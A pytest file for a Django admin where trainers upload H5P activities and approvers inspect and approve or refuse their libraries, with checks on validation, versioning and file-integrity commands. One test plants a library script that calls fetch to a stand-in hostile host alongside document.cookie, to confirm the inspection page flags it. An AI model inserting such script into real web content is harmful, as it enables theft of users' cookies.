"""Activities in the admin: trainers upload, those who may approve judge libraries, nobody deletes."""

import io

import pytest
from django.core.management import CommandError, call_command
from django.urls import reverse
from factories import make_grant, make_person, make_unit, with_second_factor
from h5p_samples import files, package

from agencies.models import Grant
from courses.services import ensure_site, sync_trainer
from media.models import H5PContent, H5PFile, H5PLibrary
from media.services.approvers import add_approver

pytestmark = pytest.mark.django_db


@pytest.fixture
def trainer():
    ensure_site()
    person = with_second_factor(make_person())
    make_grant(person, make_unit(), Grant.Function.TRAINER)
    sync_trainer(person_id=person.pk)
    return person


@pytest.fixture
def approver():
    person = with_second_factor(make_person())
    make_grant(person, make_unit(), Grant.Function.ADMINISTRATOR)
    add_approver(person)
    return person


def upload(client, contents=None, content=None, **more):
    file = io.BytesIO(contents) if isinstance(contents, bytes) else package(contents)
    file.name = "samtale.h5p"
    name = H5PContent.snippet_viewset.get_url_name("edit" if content else "add")
    data = {"package": file, "title": "", "minutes": 4, "as_text": "null", **more}
    return client.post(reverse(name, args=[content.pk] if content else []), data, follow=True)


def told(response) -> str:
    return response.content.decode()


def test_a_trainer_uploads_and_is_told_what_waits(as_person, trainer):
    page = told(upload(as_person(trainer)))
    content = H5PContent.objects.get()
    assert (content.title, content.minutes, content.created_by) == ("Første samtale", 4, trainer)
    assert "H5P.HandlekraftQuestion 1.0.3" in page
    assert "Venter på godkjenning" in page


@pytest.mark.parametrize(
    ("contents", "message"),
    [
        (b"%PDF-1.7", "Filen er ikke en H5P-pakke"),
        (files(**{"content/x.svg": b"<svg/>"}), "av en type som ikke er tillatt: svg"),
        (files(**{"HandlekraftShared-2.1/library.json": None, "HandlekraftShared-2.1/shared.js": None}),
         "mangler biblioteket HandlekraftShared 2.1"),
        (files(**{"content/content.json": {"question": "x", "right": "b", "answers": ["a", "b"]}}),
         "noe annet i «right»"),
    ],
)  # fmt: skip
def test_a_wrong_package_is_told_in_words_and_nothing_is_kept(as_person, trainer, contents, message):
    assert message in told(upload(as_person(trainer), contents))
    assert not H5PContent.objects.exists()
    assert not H5PFile.objects.exists()


def test_what_does_not_fit_and_shows_all_the_same_is_taken_in_and_told(as_person, trainer):
    contents = files(**{"content/content.json": {"question": "x", "right": 99, "answers": ["a", "b"]}})
    page = told(upload(as_person(trainer), contents))
    assert "Prøv øvelsen før du bruker den:" in page
    assert "noe uventet i «right»" in page
    assert H5PContent.objects.get().current.number == 1


def test_without_a_package_there_is_no_activity(as_person, trainer):
    ensure_site()
    url = reverse(H5PContent.snippet_viewset.get_url_name("add"))
    assert "Velg en H5P-pakke." in told(as_person(trainer).post(url, {"minutes": 3, "as_text": "null"}))


def test_a_new_package_is_the_next_version_and_the_title_may_be_changed_alone(as_person, trainer):
    client = as_person(trainer)
    upload(client)
    content = H5PContent.objects.get()
    changed = {"question": "Ny", "right": 0, "answers": ["a", "b"]}
    upload(client, files(**{"content/content.json": changed}), content, title="Andre samtale")
    content.refresh_from_db()
    assert (content.title, content.current.number) == ("Andre samtale", 2)
    url = reverse(H5PContent.snippet_viewset.get_url_name("edit"), args=[content.pk])
    client.post(url, {"title": "Tredje", "minutes": 3, "as_text": "null"})
    content.refresh_from_db()
    assert (content.title, content.current.number) == ("Tredje", 2)


def test_a_trainer_sees_libraries_and_may_not_judge_them(as_person, trainer):
    client = as_person(trainer)
    upload(client)
    library = H5PLibrary.objects.first()
    page = client.get(reverse(H5PLibrary.snippet_viewset.get_url_name("inspect"), args=[library.pk]))
    assert "Bare de som drifter plattformen" in told(page)
    client.post(reverse("h5p_judge", args=[library.pk]), {"approve": "1"})
    library.refresh_from_db()
    assert library.state == "waiting"


def test_who_may_approve_sees_what_is_inside_and_judges(as_person, trainer, approver):
    script = b"fetch('https://ondt.example/x'); document.cookie"
    upload(as_person(trainer), files(**{"HandlekraftShared-2.1/shared.js": script}))
    library = H5PLibrary.objects.get(machine_name="HandlekraftShared")
    client = as_person(approver)
    page = told(client.get(reverse(H5PLibrary.snippet_viewset.get_url_name("inspect"), args=[library.pk])))
    assert "ondt.example" in page
    assert "shared.js" in page
    assert "fetch, cookie" in page
    assert "Første samtale" in page
    client.post(reverse("h5p_judge", args=[library.pk]), {"refuse": "1"})
    library.refresh_from_db()
    assert library.state == "waiting"  # a refusal needs a reason
    client.post(reverse("h5p_judge", args=[library.pk]), {"refuse": "1", "reason": "Sender noe ut."})
    library.refresh_from_db()
    assert (library.state, library.reason, library.judged_by) == ("refused", "Sender noe ut.", approver)
    assert "i mellomtiden" in told(
        client.post(reverse("h5p_judge", args=[library.pk]), {"refuse": "1", "reason": "Igjen."}, follow=True)
    )


def test_all_that_an_activity_waits_for_is_approved_at_once(as_person, trainer, approver):
    upload(as_person(trainer))
    content = H5PContent.objects.get()
    as_person(approver).post(reverse("h5p_approve_content", args=[content.pk]))
    assert set(H5PLibrary.objects.values_list("state", flat=True)) == {"approved"}
    page = as_person(trainer).get(reverse(H5PContent.snippet_viewset.get_url_name("inspect"), args=[content.pk]))
    assert "<iframe" in told(page)


def test_the_original_is_for_trainers(as_person, trainer):
    upload(as_person(trainer))
    url = reverse("h5p_download", args=[H5PContent.objects.get().current_id])
    answer = as_person(trainer).get(url)
    assert b"".join(answer.streaming_content) == package().read()
    assert 'attachment; filename="samtale.h5p"' in answer["Content-Disposition"]
    assert as_person(make_person()).get(url).status_code in (302, 403)


def test_nobody_deletes_an_activity_or_changes_a_library(as_person, trainer):
    trainer.is_superuser = True
    trainer.save()
    client = as_person(trainer)
    upload(client)
    content, library = H5PContent.objects.get(), H5PLibrary.objects.first()
    for url in (
        reverse(H5PContent.snippet_viewset.get_url_name("delete"), args=[content.pk]),
        reverse(H5PLibrary.snippet_viewset.get_url_name("edit"), args=[library.pk]),
        reverse(H5PLibrary.snippet_viewset.get_url_name("delete"), args=[library.pk]),
    ):
        client.post(url)
    assert H5PContent.objects.exists()
    assert H5PLibrary.objects.filter(pk=library.pk, title=library.title).exists()


# --- commands ---------------------------------------------------------------------------------------


def run(*words) -> str:
    out = io.StringIO()
    call_command(*words, stdout=out)
    return out.getvalue()


def test_the_check_finds_nothing_where_all_is_well_and_everything_that_is_not(activity):
    from django.core.files.storage import storages

    from media.services.files import place_of

    content = activity()
    assert "Alt er som det skal være." in run("h5p_check")
    storage, shown = storages["private"], content.current.files["content.json"]
    storage.delete(place_of(shown))
    storage.save(place_of(shown), io.BytesIO(b"noe annet"))
    storage.delete(place_of(content.current.package))
    out = io.StringIO()
    with pytest.raises(CommandError):
        call_command("h5p_check", stdout=out)
    assert f"{shown}: er endret" in out.getvalue()
    assert f"{content.current.package}: mangler" in out.getvalue()
    assert "«Første samtale», versjon 1 (samtale.h5p):" in out.getvalue()


def test_the_clean_up_says_first_and_takes_only_what_nobody_uses(activity):
    activity()
    H5PFile.objects.update(used_at="2020-01-01T00:00:00Z")
    from media.models import H5PVersion

    old = H5PVersion.objects.get().package
    H5PVersion.objects.update(package="0" * 64)
    assert old in run("h5p_check", "--clean-up", "--dry-run")
    assert H5PFile.objects.filter(pk=old).exists()
    assert "1 filer" in run("h5p_check", "--clean-up")
    assert not H5PFile.objects.filter(pk=old).exists()
    assert "0 filer" in run("h5p_check", "--clean-up")
    assert "Ubrukt: 0 filer" in run("h5p_check", "--report")


def test_an_approver_has_a_function_and_so_a_second_factor():
    person = make_person()
    with pytest.raises(CommandError):
        run("h5p_approver", person.email)
    with pytest.raises(CommandError):
        run("h5p_approver", "ingen@example.no")
    make_grant(person, make_unit(), Grant.Function.ADMINISTRATOR)
    assert "kan godkjenne" in run("h5p_approver", person.email)
    assert type(person).objects.get(pk=person.pk).has_perm("media.approve_h5plibrary")
